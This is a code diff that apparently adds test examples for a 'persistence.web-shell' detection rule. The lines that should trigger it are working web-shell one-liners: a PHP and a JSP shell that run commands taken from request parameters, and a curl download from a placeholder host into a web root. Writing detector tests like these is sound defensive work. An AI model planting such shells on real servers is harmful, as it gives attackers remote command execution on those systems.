@@ -122,6 +122,19 @@ export const PERSISTENCE_EXAMPLES: RuleExamples = {
       'systemctl start tmp.mount',
     ],
   },
+  'persistence.web-shell': {
+    fires: [
+      'echo \'<?php system($_GET["c"]); ?>\' > /var/www/html/x.php',
+      'cat > shell.jsp <<\'EOF\'\n<% Runtime.getRuntime().exec(request.getParameter("c")); %>\nEOF',
+      'curl -o /var/www/html/a.php http://x.example/s.txt',
+    ],
+    silent: [
+      "echo '<?php phpinfo();' > info.php",
+      'echo \'<?php echo $_GET["a"];\' > /var/www/html/a.php',
+      'curl -o composer-setup.php https://getcomposer.org/installer',
+      'echo "use eval($_GET) never" > notes.md',
+    ],
+  },
   'persistence.transient-timer': {
     fires: ['systemd-run --on-calendar=hourly /tmp/x'],
     silent: ['systemd-run --scope ls'],
